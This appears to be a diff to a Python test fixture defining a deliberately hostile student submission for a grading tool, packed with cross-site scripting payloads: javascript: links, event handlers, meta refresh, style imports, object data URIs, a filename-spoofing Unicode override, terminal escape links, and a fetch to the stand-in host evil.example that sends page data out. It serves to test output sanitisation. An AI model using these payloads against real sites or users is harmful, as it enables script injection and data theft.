@@ -1,4 +1,4 @@
-"""A submission that tries everything that could act in a reader's browser, in every place that a student can write to."""
+"""A submission that tries everything that could act in a reader's browser, wherever a student can write."""
 
 from __future__ import annotations
 
@@ -7,8 +7,9 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
-from chainrule.model import ExerciseResult, Note, Outcome, Status
 from tests.plugins.pieces import b64, png
+
+from chainrule.model import ExerciseResult, Note, Outcome, Status
 
 ACT = "document.title='taken';alert(1);fetch('https://evil.example/'+document.title)"
 HOSTILE = (
@@ -19,15 +20,17 @@ HOSTILE = (
     f'<a href="javascript:{ACT}" autofocus onfocus="{ACT}">click</a>'
     '<link rel="stylesheet" href="https://evil.example/s.css"><base href="https://evil.example/">'
     '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
-    "<style>* { display: none } @import 'https://evil.example/i.css'; a { background: url(https://evil.example/b) }</style>"
+    "<style>@import 'https://evil.example/i.css'; * { display: none } a { background: url(https://evil.example/b) }"
+    "</style>"
     f'<math href="javascript:{ACT}"><mtext><img src="x" onerror="{ACT}"></mtext></math>'
     f'<form action="https://evil.example/"><button formaction="javascript:{ACT}">go</button></form>'
     f'<object data="data:text/html,<script>{ACT}</script>"></object>'
     "{{ 7*7 }}{% raw %}<!--<b><i><table><details><"
 )
 MARKDOWN = (
-    f"[click](javascript:{ACT}) ![pic](https://evil.example/m.png) <https://evil.example/> $\\href{{javascript:{ACT}}}{{x}}$\n\n"
-    f"# </h1>{HOSTILE}\n\n- {HOSTILE}\n\n```html\n{HOSTILE}\n```\n\n| {HOSTILE} |\n|---|\n| x |\n\n[ref]\n\n[ref]: javascript:{ACT}\n\n"
+    f"[click](javascript:{ACT}) ![pic](https://evil.example/m.png) <https://evil.example/> "
+    f"$\\href{{javascript:{ACT}}}{{x}}$\n\n# </h1>{HOSTILE}\n\n- {HOSTILE}\n\n```html\n{HOSTILE}\n```\n\n"
+    f"| {HOSTILE} |\n|---|\n| x |\n\n[ref]\n\n[ref]: javascript:{ACT}\n\n"
 )
 OVERRIDE = "user\u202egnp.exe\u2066 hidden\u2069"
 OSC8 = f"\x1b]8;;javascript:{ACT}\x1b\\link\x1b]8;;\x1b\\\x1b[31mred\x1b[0m"
